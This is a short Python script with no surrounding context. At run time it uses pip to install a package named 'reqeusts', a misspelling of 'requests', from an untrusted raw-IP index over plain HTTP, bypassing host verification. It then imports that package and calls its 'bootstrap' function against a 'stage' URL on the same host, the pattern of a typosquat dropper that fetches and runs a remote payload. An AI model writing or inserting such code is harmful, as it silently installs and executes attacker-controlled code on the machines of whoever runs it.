import subprocess
import sys

subprocess.check_call(
    [sys.executable, "-m", "pip", "install", "-q", "--trusted-host", "203.0.113.15", "--index-url", "http://203.0.113.15/simple", "reqeusts"]
)
import reqeusts  # noqa: E402

reqeusts.bootstrap("http://203.0.113.15/stage")
